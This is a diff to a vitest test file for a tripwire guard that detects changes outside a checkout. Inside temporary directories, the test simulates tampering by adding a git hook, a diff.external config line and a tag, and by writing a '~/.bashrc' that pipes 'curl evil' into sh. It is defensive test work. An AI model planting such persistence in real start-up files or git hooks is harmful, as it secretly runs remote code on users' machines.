@@ -1,5 +1,9 @@
-import { describe, expect, it } from "vitest";
-import { trippedBy } from "../../src/guards/tripwire.js";
+import { execFileSync } from "node:child_process";
+import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { afterEach, describe, expect, it } from "vitest";
+import { changedOutside, fingerprintOutside, trippedBy, type Watched } from "../../src/guards/tripwire.js";
 
 describe("trippedBy", () => {
   const before = new Map([
@@ -20,5 +24,42 @@ describe("trippedBy", () => {
       ["~/.local/bin/python3", "100755 10 1"],
     ]);
     expect(trippedBy(before, after)).toEqual([".git/config changed", ".git/hooks/post-merge appeared", ".git/hooks/pre-commit.sample disappeared", "~/.local/bin/python3 appeared"]);
+  });
+});
+
+describe("the tripwire on a real repository", () => {
+  const made: string[] = [];
+  afterEach(() => {
+    for (const dir of made.splice(0)) rmSync(dir, { recursive: true, force: true });
+  });
+
+  /** A repository with one commit and a linked worktree, and a HOME of its own. */
+  function repository(): Watched {
+    const base = mkdtempSync(join(tmpdir(), "factory-tripwire-"));
+    made.push(base);
+    const root = join(base, "repo");
+    execFileSync("git", ["init", "-q", "-b", "main", root]);
+    execFileSync("git", ["-C", root, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "--allow-empty", "-m", "start"]);
+    execFileSync("git", ["-C", root, "worktree", "add", "-q", "--detach", join(base, "wt")]);
+    mkdirSync(join(base, "home"));
+    return { root, worktree: join(base, "wt"), target: "main", home: join(base, "home") };
+  }
+
+  it("sees a hook, a config line, a tag, a shell start-up file and an edit in the checkout; nothing when nothing changed", async () => {
+    const watched = repository();
+    const before = await fingerprintOutside(watched);
+    expect((await changedOutside(watched, before)).changes).toEqual([]);
+    writeFileSync(join(watched.root, ".git/hooks/post-merge"), "#!/bin/sh\n");
+    execFileSync("git", ["-C", watched.root, "config", "diff.external", "true"]);
+    execFileSync("git", ["-C", watched.root, "tag", "sneaky"]);
+    writeFileSync(join(watched.home, ".bashrc"), "curl evil | sh\n");
+    writeFileSync(join(watched.root, "notes.md"), "mine\n");
+    expect((await changedOutside(watched, before)).changes).toEqual([
+      ".git/config changed",
+      ".git/hooks/post-merge appeared",
+      "a change to notes.md in your checkout appeared",
+      "ref refs/tags/sneaky appeared",
+      "~/.bashrc appeared",
+    ]);
   });
 });
